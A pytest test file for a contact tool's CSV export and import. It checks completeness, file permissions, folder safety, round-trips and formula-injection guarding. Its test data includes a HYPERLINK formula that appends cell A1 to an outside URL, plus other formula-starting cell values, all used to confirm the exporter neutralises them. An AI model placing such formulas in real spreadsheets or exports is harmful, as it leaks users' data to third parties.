"""What does a spreadsheet find in the tables that the real program writes?"""

import csv
import io
import json
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from netlog.exporters.csv import write
from netlog.importers.cells import unguarded
from tests.netlog.program import Program

FILES = ["people.csv", "organisations.csv", "entries.csv", "exchange.csv", "queue.csv"]
TODAY = datetime.now(UTC).date()
MET = (TODAY - timedelta(days=6)).isoformat()
GAVE = (TODAY - timedelta(days=5)).isoformat()
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"more")'


def rows(folder: Path, name: str, **reading: Any) -> list[dict[str, str]]:
    with (folder / name).open(newline="", encoding=reading.pop("encoding", "utf-8")) as stream:
        return list(csv.DictReader(stream, **reading))


@pytest.fixture(scope="module")
def told(vault: Program) -> Program:
    """A vault with somebody who has something in every table."""
    vault.ok(
        *("add", "Dana Wu", "--at", "Contoso", "--role", FORMULA, "--email", "dana@example.com"),
        *("--phone", "+49 30 123456", "--tag", "-x", "--tag", "robotics"),
    )
    vault.ok("org", "Contoso", "--target", "2", "--sector", "water", "--why", "@them")
    vault.ok("met", "Dana", "--on", MET, "--learned", "ü\n=1+1", "--note", "a; b, c\td")
    vault.ok("give", "Dana", "news", "Lee's address", "--on", GAVE)
    vault.ok("cadence", "Dana", "B")
    vault.ok("note", "Dana", "a mistake")
    vault.ok("undo")
    return vault


@pytest.fixture(scope="module")
def tables(told: Program) -> Path:
    folder = told.place / "tables"
    told.ok("export", "csv", "--to", str(folder))
    return folder


def test_everything_is_there_and_nobody_else_may_read_it(told: Program) -> None:
    folder = told.place / "private"
    document = told.json("export", "csv", "--to", str(folder))
    assert document["path"] == str(folder)
    assert [each["file"] for each in document["files"]] == FILES
    assert sorted(path.name for path in folder.iterdir()) == sorted(FILES)
    counted = {each["file"]: each["rows"] for each in document["files"]}
    assert counted == {name: len(rows(folder, name)) for name in FILES}
    assert counted["people.csv"] == len(told.json("who"))
    assert counted["organisations.csv"] == 1
    assert counted["entries.csv"] == told.json("status")["events"]
    assert counted["queue.csv"] == len(told.json("next", "--all")) > 0
    assert folder.stat().st_mode & 0o777 == 0o700
    assert {path.stat().st_mode & 0o777 for path in folder.iterdir()} == {0o600}


def test_a_person_is_a_row_with_all_that_is_known(told: Program, tables: Path) -> None:
    (row,) = rows(tables, "people.csv")
    assert (row["name"], row["organisation"], row["sector"]) == ("Dana Wu", "Contoso", "water")
    assert (row["email"], row["tags"]) == ("dana@example.com", "'-x, robotics")
    assert (row["last contact"], row["cadence"], row["stage reached"]) == (GAVE, "B", "talked")
    assert row["netlog id"] == told.json("show", "Dana")["person"]["id"]


def test_entries_tell_what_was_taken_back_and_by_what(tables: Path) -> None:
    found = rows(tables, "entries.csv")
    (back,) = [row for row in found if row["event"] == "entry-withdrawn"]
    (mistake,) = [row for row in found if row["words"] == "a mistake"]
    assert mistake["taken back by"] == back["entry"]
    assert mistake["about whom"] == "Dana Wu"


def test_an_organisation_and_what_went_to_and_fro_are_rows(tables: Path) -> None:
    (place,) = rows(tables, "organisations.csv")
    told = (place["organisation"], place["target rank"], place["why"], place["people"], place["talked with"])
    assert told == ("Contoso", "2", "'@them", "1", "1")
    given = [row for row in rows(tables, "exchange.csv") if row["direction"] == "gave"]
    assert [(row["with whom"], row["words"]) for row in given] == [("Dana Wu", "Lee's address")]


def test_no_cell_is_a_formula_and_each_comes_back_as_it_was(tables: Path) -> None:
    cells = [cell for name in FILES for row in rows(tables, name) for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))] == []
    (row,) = rows(tables, "people.csv")
    assert unguarded(row["role"]) == FORMULA
    assert unguarded(row["phone"]) == "+49 30 123456"


@given(st.lists(st.tuples(st.text(st.characters(exclude_categories=["Cs"]))), min_size=1, max_size=5))
@example([("'=1",), ("''+1",), ("'",), ("\r=1",), ("=1\r\n+2",), ("\ufeffx",)])
def test_any_text_is_harmless_in_a_table_and_comes_back(texts: list[tuple[str]]) -> None:
    stream = io.StringIO(newline="")
    assert write(stream, ("words",), texts, delimiter=";") == len(texts)
    read = list(csv.reader(io.StringIO(stream.getvalue(), newline=""), delimiter=";"))[1:]
    assert [tuple(unguarded(cell) for cell in row) or ("",) for row in read] == texts
    assert not any(cell[:1] in set("=+-@\t\r\n") - {""} for row in read for cell in row)


def test_excel_gets_its_mark_and_its_delimiter_when_asked(told: Program) -> None:
    folder = told.place / "excel"
    told.ok("export", "csv", "--to", str(folder), "--bom", "--delimiter", "semicolon")
    for name in FILES:
        assert (folder / name).read_bytes().startswith(b"\xef\xbb\xbf")
    (row,) = rows(folder, "people.csv", encoding="utf-8-sig", delimiter=";")
    assert row["name"] == "Dana Wu"


def test_files_that_are_there_are_kept_unless_said_otherwise(told: Program) -> None:
    folder = told.place / "mine"
    folder.mkdir()
    (folder / "queue.csv").write_text("my own")
    refused = told.run("export", "csv", "--to", str(folder), "--json")
    assert refused.code == 2
    assert refused.failure["hint"] == f"netlog export csv --to {folder} --force"
    assert [path.name for path in folder.iterdir()] == ["queue.csv"]
    told.ok("export", "csv", "--to", str(folder), "--force")
    assert rows(folder, "queue.csv")[0]["about whom"] == "Dana Wu"


def test_tables_never_land_in_the_folder_of_the_vault(told: Program) -> None:
    link = told.place / "link"
    link.symlink_to(told.folder)
    for path in (
        told.folder,
        told.folder / "tables",
        told.folder / "log" / ".." / "tables",
        link,
        link / "x",
    ):
        assert told.run("export", "csv", "--to", str(path), "--json").code == 2
    assert not any(path.suffix == ".csv" for path in told.folder.rglob("*"))


@pytest.mark.parametrize("to", ["nowhere/tables", "home/device.key", "/proc/tables"])
def test_a_folder_that_cannot_be_is_named(to: str, told: Program) -> None:
    refused = told.run("export", "csv", "--to", to, "--json")
    assert refused.code in {1, 2}
    assert refused.failure["hint"]
    assert Path(to).name in refused.failure["error"] or "nowhere" in refused.failure["error"]


def test_an_empty_notebook_gives_tables_with_headers_alone(own: Program) -> None:
    document = own.json("export", "csv", "--to", "tables")
    assert {each["rows"] for each in document["files"]} == {0}
    assert (own.place / "tables" / "people.csv").read_text("utf-8").startswith("name,role,organisation,")


def test_the_tables_answer_for_a_day(told: Program) -> None:
    folder = told.place / "then"
    told.ok("export", "csv", "--to", str(folder), "--on", MET)
    assert [row["direction"] for row in rows(folder, "exchange.csv")] == []
    assert {row["rule"] for row in rows(folder, "queue.csv")} == {"R02"}


def test_people_read_back_where_they_came_from_change_nothing(told: Program, tables: Path) -> None:
    counts = told.json("import", "csv", str(tables / "people.csv"))
    assert (counts["created"], counts["matched"], counts["events"]) == (0, 1, 0)
    assert counts["columns"][0] == {"header": "name", "field": "name", "why": None}
    derived = [each["why"] for each in counts["columns"] if each["header"] == "stage reached"]
    assert derived == ["it follows from what happened"]


def test_people_read_into_another_notebook_are_as_they_were(
    told: Program, tables: Path, own: Program
) -> None:
    told.ok("cadence", "Dana", "45")
    again = told.place / "again"
    told.ok("export", "csv", "--to", str(again), "--delimiter", "tab", "--bom")
    first = own.json("import", "csv", str(again / "people.csv"))
    assert (first["rows"], first["created"]) == (1, 1)
    there, here = told.json("show", "Dana"), own.json("show", "Dana")
    for field in ("role", "tags", "channels", "last_touch", "cadence_days"):
        assert here[field] == there[field], field
    assert here["role"] == FORMULA
    assert own.json("org", "Contoso")["sector"] == "water"
    assert own.json("import", "csv", str(tables / "people.csv"))["created"] == 0


@pytest.mark.parametrize("name", [name for name in FILES if name != "people.csv"])
def test_no_other_table_is_taken_for_people(name: str, told: Program, tables: Path) -> None:
    refused = told.run("import", "csv", str(tables / name), "--json")
    assert refused.code == 1
    assert refused.failure["hint"] == "netlog import csv people.csv"


@pytest.mark.slow
def test_the_people_of_a_whole_year_are_all_known_when_they_come_back(own: Program) -> None:
    demo = own.json("demo")
    shown = {"NETLOG_HOME": demo["home"], "NETLOG_PASSPHRASE_COMMAND": f"echo {demo['passphrase']}"}
    try:
        assert own.run("export", "csv", "--to", "year", **shown).code == 0
        counts = json.loads(own.run("import", "csv", "year/people.csv", "--json", **shown).out)
        assert counts["matched"] == counts["rows"] == len(rows(own.place / "year", "people.csv")) > 100
        assert (counts["events"], counts["kept"], counts["problems"]) == (0, 0, {})
    finally:
        shutil.rmtree(Path(demo["home"]).parent)
